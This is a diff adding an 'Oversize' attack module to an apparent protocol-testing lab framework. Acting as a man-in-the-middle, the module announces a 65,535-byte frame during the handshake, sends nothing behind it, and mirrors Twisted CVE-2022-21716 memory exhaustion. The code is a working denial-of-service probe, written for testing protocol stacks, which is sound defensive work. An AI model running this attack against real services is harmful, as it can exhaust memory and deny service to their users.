@@ -1,0 +1,55 @@
+"""Oversize: announce a frame that is too long."""
+
+import asyncio
+
+from plytalk.core.hookspecs import hookimpl
+from plytalk.core.keys import Role
+from plytalk.core.lab.attack import Attack, Passing
+from plytalk.core.lab.middle import Middle
+from plytalk.core.lab.play import Evidence
+from plytalk.core.properties import Property
+from plytalk.core.stack import Stack
+from plytalk.core.wire import MESSAGE
+
+LONG, PATIENCE, FOREVER = 65535, 1.0, float("inf")
+
+
+class Oversize(Attack):
+    """Sends the header of a very long frame in place of the first handshake frame, and nothing behind it.
+
+    Whoever makes room before it looks gives memory to everybody who asks.
+    """
+
+    name = "oversize"
+    row = "A40"
+    reference = "Twisted CVE-2022-21716"
+
+    def __init__(self, seed: int = 0) -> None:
+        super().__init__(seed)
+        self._times: dict[bool, float] = {}
+        self._victim: Role | None = None
+
+    @classmethod
+    def applies(cls, stack: Stack) -> bool:
+        return stack.handshake.speaks_first is not None and Property.BORDERS in stack.framer.gives
+
+    def frame(self, middle: Middle, passing: Passing) -> None:
+        if self._victim or not passing.handshake:
+            return
+        self._victim = passing.sender.other
+        self._times[False] = asyncio.get_running_loop().time()
+        middle.log(f"announced a frame of {LONG} bytes to the {self._victim.value}")
+        middle.send_raw(self._victim, middle.encode(passing.kind or MESSAGE, bytes(LONG))[:-LONG])
+
+    def end(self, middle: Middle, sender: Role) -> None:
+        if sender is self._victim:
+            self._times.setdefault(True, asyncio.get_running_loop().time())
+        super().end(middle, sender)
+
+    def succeeded(self, evidence: Evidence) -> bool:
+        return False in self._times and self._times.get(True, FOREVER) - self._times[False] >= PATIENCE
+
+
+@hookimpl
+def layers() -> list[type[Oversize]]:
+    return [Oversize]
